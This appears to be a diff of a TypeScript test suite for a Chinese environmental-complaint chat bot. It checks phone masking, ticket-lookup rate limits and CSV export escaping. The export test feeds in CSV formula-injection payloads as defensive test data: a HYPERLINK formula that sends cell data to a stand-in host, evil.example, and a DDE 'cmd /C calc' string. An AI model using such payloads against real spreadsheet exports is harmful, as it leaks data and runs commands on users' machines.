@@ -16,49 +16,52 @@ import { NOW } from './helpers.js';
 const PHONE = '13812345678';
 
 describe('M3 and L1: phones', () => {
-  it('shows a reporter’s phone to the unit’s official in a private chat only, never in a group', () => {
-    const app = makeApp();
-    const ticket = fileReport(talker(app, 'reporter'), {
+  it('shows a reporter’s phone to the unit’s official in a private chat only, never in a group', async () => {
+    const app = await makeApp();
+    const ticket = await fileReport(talker(app, 'reporter'), {
       anonymous: false,
       phone: PHONE,
       text: `村口养猪场往河里排粪水，我邻居电话139 8765 4321也可以作证`,
     });
-    const unit = app.cases.byTicket(ticket)?.unit as string;
+    const unit = (await app.cases.byTicket(ticket))?.unit as string;
     const official = { channel: 'test', userId: 'off', name: '王' };
-    app.dialog.handle({ ...official, chatId: 'off', messageId: 'j', text: `/join ${app.people.invite('official', unit, NOW)}` }, NOW);
+    await app.dialog.handle(
+      { ...official, chatId: 'off', messageId: 'j', text: `/join ${await app.people.invite('official', unit, NOW)}` },
+      NOW,
+    );
     const inPrivate =
-      app.dialog.handle({ ...official, chatId: 'off', messageId: 'p', text: `/case ${ticket}` }, NOW).replies[0]?.text ?? '';
+      (await app.dialog.handle({ ...official, chatId: 'off', messageId: 'p', text: `/case ${ticket}` }, NOW)).replies[0]?.text ?? '';
     expect(inPrivate).toContain(PHONE);
     expect(inPrivate).toContain('139 8765 4321');
     const inGroup =
-      app.dialog.handle({ ...official, chatId: '-100200', chatType: 'group', messageId: 'g', text: `/case ${ticket}` }, NOW).replies[0]
-        ?.text ?? '';
+      (await app.dialog.handle({ ...official, chatId: '-100200', chatType: 'group', messageId: 'g', text: `/case ${ticket}` }, NOW))
+        .replies[0]?.text ?? '';
     expect(inGroup).toContain('举报人电话：138******78');
     expect(inGroup).not.toContain(PHONE);
     expect(inGroup).not.toMatch(/139.?8765.?4321/);
     // An administrator sees phones masked, also inside the description.
     const admin = { channel: 'test', userId: 'adm', chatId: 'adm' };
-    app.dialog.handle({ ...admin, messageId: 'aj', text: `/join ${app.people.invite('admin', null, NOW)}` }, NOW);
-    const adminView = app.dialog.handle({ ...admin, messageId: 'ac', text: `/case ${ticket}` }, NOW).replies[0]?.text ?? '';
+    await app.dialog.handle({ ...admin, messageId: 'aj', text: `/join ${await app.people.invite('admin', null, NOW)}` }, NOW);
+    const adminView = (await app.dialog.handle({ ...admin, messageId: 'ac', text: `/case ${ticket}` }, NOW)).replies[0]?.text ?? '';
     expect(adminView).not.toContain(PHONE);
     expect(adminView).not.toMatch(/139.?8765.?4321/);
   });
 
-  it('masks phones typed into text in a unit’s group pushes, not in its officials’ own chats', () => {
-    const app = makeApp();
-    app.people.bindChat('区农业农村委', 'telegram', '-100999', 'test', NOW);
-    app.dialog.handle(
+  it('masks phones typed into text in a unit’s group pushes, not in its officials’ own chats', async () => {
+    const app = await makeApp();
+    await app.people.bindChat('区农业农村委', 'telegram', '-100999', 'test', NOW);
+    await app.dialog.handle(
       {
         channel: 'telegram',
         userId: '77',
         chatId: '77',
         messageId: 'j',
-        text: `/join ${app.people.invite('official', '区农业农村委', NOW)}`,
+        text: `/join ${await app.people.invite('official', '区农业农村委', NOW)}`,
       },
       NOW,
     );
-    fileReport(talker(app, 'r2'), { text: `养猪场往河里排粪水，有事打我电话${PHONE}` });
-    const unit = app.outbox.list({ kind: 'unit' });
+    await fileReport(talker(app, 'r2'), { text: `养猪场往河里排粪水，有事打我电话${PHONE}` });
+    const unit = await app.outbox.list({ kind: 'unit' });
     expect(unit.find((m) => m.chatId === '-100999')?.text).toContain('138******78');
     expect(unit.find((m) => m.chatId === '-100999')?.text).not.toContain(PHONE);
     expect(unit.find((m) => m.chatId === '77')?.text).toContain(PHONE);
@@ -87,18 +90,18 @@ describe('M4 and L1: exports and administrators’ views', () => {
   it('escapes formulas, keeps a BOM and masks phones in the CSV export and the case list', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'rectify-export-'));
     const env = { DATABASE_PATH: join(dir, 'db.sqlite'), INDEX_SNAPSHOT_PATH: join(dir, 'idx.json') };
-    const app = makeApp({}, env.DATABASE_PATH);
-    fileReport(talker(app, 'evil'), { text: `=HYPERLINK("http://evil.example/?"&A1,"点我") 养猪场排粪水 电话${PHONE}` });
+    const app = await makeApp({}, env.DATABASE_PATH);
+    await fileReport(talker(app, 'evil'), { text: `=HYPERLINK("http://evil.example/?"&A1,"点我") 养猪场排粪水 电话${PHONE}` });
     const t = talker(app, 'evil2');
-    t.say('举报');
-    t.choose('cat:garbage');
-    t.say("+cmd|' /C calc'!A0 河边");
-    t.say('@SUM(1+1)*cmd 河边堆放了大量生活垃圾');
-    t.choose('skip');
-    t.choose('skip');
-    t.choose('anon');
-    t.choose('confirm');
-    app.close();
+    await t.say('举报');
+    await t.choose('cat:garbage');
+    await t.say("+cmd|' /C calc'!A0 河边");
+    await t.say('@SUM(1+1)*cmd 河边堆放了大量生活垃圾');
+    await t.choose('skip');
+    await t.choose('skip');
+    await t.choose('anon');
+    await t.choose('confirm');
+    await app.close();
     const file = join(dir, 'cases.csv');
     await run(['export', file], env);
     const csv = readFileSync(file, 'utf8');
@@ -120,64 +123,64 @@ describe('M4 and L1: exports and administrators’ views', () => {
 });
 
 describe('L2: no oracle', () => {
-  it('answers a rating of someone else’s ticket exactly as one of a ticket that does not exist', () => {
-    const app = makeApp();
-    const ticket = fileReport(talker(app, 'owner'));
+  it('answers a rating of someone else’s ticket exactly as one of a ticket that does not exist', async () => {
+    const app = await makeApp();
+    const ticket = await fileReport(talker(app, 'owner'));
     const probe = talker(app, 'prober');
-    const mine = fileReport(probe, { text: '另一个养猪场也往河里排粪水' });
+    const mine = await fileReport(probe, { text: '另一个养猪场也往河里排粪水' });
     const unknown = `${ticket.slice(0, -5)}${ticket.endsWith('ZZZZZ') ? 'YYYYY' : 'ZZZZZ'}`;
-    const answer = (t: string, how: 'choose' | 'say') => {
-      if (how === 'choose') probe.choose(`rate:${t}:yes`);
-      else probe.say(`满意 ${t}`);
+    const answer = async (t: string, how: 'choose' | 'say') => {
+      if (how === 'choose') await probe.choose(`rate:${t}:yes`);
+      else await probe.say(`满意 ${t}`);
       return probe.last().replace(t, 'T');
     };
     for (const how of ['choose', 'say'] as const) {
-      expect(answer(ticket, how)).toBe(answer(unknown, how));
-      expect(answer(ticket, how)).toContain('没有找到');
+      expect(await answer(ticket, how)).toBe(await answer(unknown, how));
+      expect(await answer(ticket, how)).toContain('没有找到');
     }
-    expect(app.cases.byTicket(ticket)?.satisfaction).toBeNull();
-    probe.say(`查询 ${ticket}`);
+    expect((await app.cases.byTicket(ticket))?.satisfaction).toBeNull();
+    await probe.say(`查询 ${ticket}`);
     const a = probe.last().replace(ticket, 'T');
-    probe.say(`查询 ${unknown}`);
+    await probe.say(`查询 ${unknown}`);
     expect(probe.last().replace(unknown, 'T')).toBe(a);
     expect(mine).toMatch(/^JJ-/);
   });
 
-  it('rate-limits ticket lookups per person', () => {
-    const app = makeApp({ LOOKUPS_PER_HOUR: '3' });
+  it('rate-limits ticket lookups per person', async () => {
+    const app = await makeApp({ LOOKUPS_PER_HOUR: '3' });
     const t = talker(app, 'enumerator');
     const replies: string[] = [];
     for (let i = 0; i < 5; i++) {
-      t.say(`查询 JJ-20261122-${'ABCDE'.slice(0, 4)}${'23456'[i]}`);
+      await t.say(`查询 JJ-20261122-${'ABCDE'.slice(0, 4)}${'23456'[i]}`);
       replies.push(t.last());
     }
     expect(replies.slice(0, 3).every((r) => r.includes('没有找到'))).toBe(true);
     expect(replies.slice(3).every((r) => r.includes('太频繁'))).toBe(true);
-    t.choose('rate:JJ-20261122-ABCD7:yes');
+    await t.choose('rate:JJ-20261122-ABCD7:yes');
     expect(t.last()).toContain('太频繁');
     // An hour later it is allowed again.
-    t.say('查询 JJ-20261122-ABCD8', new Date(NOW.getTime() + 3601_000));
+    await t.say('查询 JJ-20261122-ABCD8', new Date(NOW.getTime() + 3601_000));
     expect(t.last()).toContain('没有找到');
   });
 
-  it('lists another unit’s possible duplicates without their ticket numbers', () => {
-    const app = makeApp();
+  it('lists another unit’s possible duplicates without their ticket numbers', async () => {
+    const app = await makeApp();
     const text = '石蟆镇村口河边有人倾倒大量垃圾和粪水，河水发黑发臭';
-    const other = fileReport(talker(app, 'a'), { text });
+    const other = await fileReport(talker(app, 'a'), { text });
     const t = talker(app, 'b');
-    t.say('举报');
-    t.choose('cat:garbage');
-    t.choose('town:石蟆镇');
-    t.say(text);
-    t.choose('skip');
-    t.choose('skip');
-    t.choose('anon');
-    t.choose('confirm');
+    await t.say('举报');
+    await t.choose('cat:garbage');
+    await t.choose('town:石蟆镇');
+    await t.say(text);
+    await t.choose('skip');
+    await t.choose('skip');
+    await t.choose('anon');
+    await t.choose('confirm');
     const ticket = /JJ-\d{8}-[A-Z0-9]{5}/.exec(t.last())?.[0] as string;
-    expect(app.cases.byTicket(ticket)?.unit).not.toBe(app.cases.byTicket(other)?.unit);
+    expect((await app.cases.byTicket(ticket))?.unit).not.toBe((await app.cases.byTicket(other))?.unit);
     const o = talker(app, 'city');
-    o.say(`/join ${app.people.invite('official', app.cases.byTicket(ticket)?.unit as string, NOW)}`);
-    o.say(`/case ${ticket}`);
+    await o.say(`/join ${await app.people.invite('official', (await app.cases.byTicket(ticket))?.unit as string, NOW)}`);
+    await o.say(`/case ${ticket}`);
     expect(o.last()).toContain('可能重复：区农业农村委办理的一件举报（待受理）');
     expect(o.last()).not.toContain(other);
   });
